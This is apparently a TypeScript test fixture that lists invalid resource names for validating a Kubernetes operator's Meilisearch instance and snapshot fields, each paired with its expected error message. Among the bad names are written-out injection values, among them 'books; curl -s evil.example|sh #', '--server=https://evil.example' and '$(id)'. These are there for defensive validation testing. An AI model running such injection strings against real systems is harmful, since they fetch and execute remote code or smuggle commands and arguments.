// Every field that names another object, with names that there cannot be: what a shell, a YAML reader or a terminal would take for more than a name.
import { meiliInstances } from '../../../../src/api/instance.ts'
import type { kinds } from '../../../../src/api/kinds.ts'
import { meiliSnapshots } from '../../../../src/api/snapshot.ts'

interface BadName {
  readonly kind: (typeof kinds)[number]
  readonly at: string
  readonly says: string
  readonly change: readonly (readonly [string, unknown])[]
  readonly which: number
}

const names = [
  'Books',
  '-books',
  'books-',
  'a..b',
  'a/b',
  'a_b',
  'a b',
  'a\n',
  'ä',
  '--server=https://evil.example',
  'books; curl -s evil.example|sh #',
  '$(id)',
  'a\u0085b',
]
const keys = ['a/b', 'a=b', 'a b', 'a\n', '$(id)', '`id`', "a'b"]
const says = (field: string, kind: string): string =>
  `${field} must be the name of ${kind}: lower-case letters, digits, - and .`
const keySays = 'key must be a key of its data: letters, digits, -, _ and .'

const here = 'in this namespace'
const term = (rule: string): string => `spec.managed.affinity.${rule}.namespaces.0`
const terms = ['podAffinity', 'podAntiAffinity'].flatMap((affinity) => [
  term(`${affinity}.requiredDuringSchedulingIgnoredDuringExecution.0`),
  term(`${affinity}.preferredDuringSchedulingIgnoredDuringExecution.0.podAffinityTerm`),
])

/** Member, and what it names; in which complete object. */
type Field = readonly [member: string, named: string, which: number, field?: string]
const instanceFields: readonly Field[] = [
  ['spec.existing.tls.caSecretRef.name', `a Secret ${here}`, 0],
  ['spec.existing.apiKeySecretRef.name', `a Secret ${here}`, 0],
  ['spec.managed.masterKeySecretRef.name', `a Secret ${here}`, 1],
  ['spec.managed.image.pullSecrets.0.name', `an object ${here}`, 1],
  ['spec.managed.storage.storageClassName', 'a StorageClass', 1, 'storageClassName'],
  ['spec.managed.snapshots.storageClassName', 'a StorageClass', 1, 'storageClassName'],
  ['spec.managed.scratch.storageClassName', 'a StorageClass', 1, 'storageClassName'],
  ['spec.managed.upgrade.destination.claim.template.storageClassName', 'a StorageClass', 1, 'storageClassName'],
  ['spec.managed.storage.claimName', `a PersistentVolumeClaim ${here}`, 2, 'claimName'],
  ['spec.managed.snapshots.claimName', `a PersistentVolumeClaim ${here}`, 2, 'claimName'],
  ['spec.managed.priorityClassName', 'a PriorityClass', 1, 'priorityClassName'],
  ['spec.managed.serviceAccountName', `a ServiceAccount ${here}`, 1, 'serviceAccountName'],
  ['spec.managed.env.0.valueFrom.secretKeyRef.name', `a Secret ${here}`, 2],
  ['spec.managed.env.0.valueFrom.configMapKeyRef.name', `a ConfigMap ${here}`, 3],
]
const snapshotFields: readonly Field[] = [
  ['spec.source.instanceRef.name', `an object ${here}`, 0],
  ['spec.destination.claim.template.storageClassName', 'a StorageClass', 0, 'storageClassName'],
  ['spec.mover.priorityClassName', 'a PriorityClass', 0, 'priorityClassName'],
]
const keyFields = [
  ['spec.existing.tls.caSecretRef.key', 0],
  ['spec.existing.apiKeySecretRef.key', 0],
  ['spec.managed.masterKeySecretRef.key', 1],
  ['spec.managed.env.0.valueFrom.secretKeyRef.key', 2],
  ['spec.managed.env.0.valueFrom.configMapKeyRef.key', 3],
] as const
/** RFC 1123 labels: no dot either. */
const labelFields = [
  ['spec.existing.container', 'container', 'a container of the pod', 0] as const,
  ...terms.map((member) => [member, 'namespaces', 'a Namespace', 1] as const),
]

const bracketIndexes = (member: string): string => member.replaceAll(/\.(\d+)(?=\.|$)/g, '[$1]')
const bad = (
  kind: BadName['kind'],
  [member, message, which]: readonly [string, string, number],
  values: readonly string[],
): BadName[] =>
  values.map((value) => ({ kind, at: bracketIndexes(member), says: message, change: [[member, value]], which }))

/** All of them where they matter most, and one elsewhere: the pattern is the same. */
const someNames = (member: string): readonly string[] => (member.includes('apiKeySecretRef') ? names : names.slice(-3))

export const badNames: readonly BadName[] = [
  ...instanceFields.flatMap(([member, named, which, field = 'name']) =>
    bad(meiliInstances, [member, says(field, named), which], someNames(member)),
  ),
  ...snapshotFields.flatMap(([member, named, which, field = 'name']) =>
    bad(meiliSnapshots, [member, says(field, named), which], someNames(member)),
  ),
  ...keyFields.flatMap(([member, which]) => bad(meiliInstances, [member, keySays, which], keys)),
  ...labelFields.flatMap(([member, field, named, which]) =>
    bad(
      meiliInstances,
      [member, `${field} must be the name of ${named}: lower-case letters, digits and -`, which],
      ['a.b', 'A', 'a;b'],
    ),
  ),
]
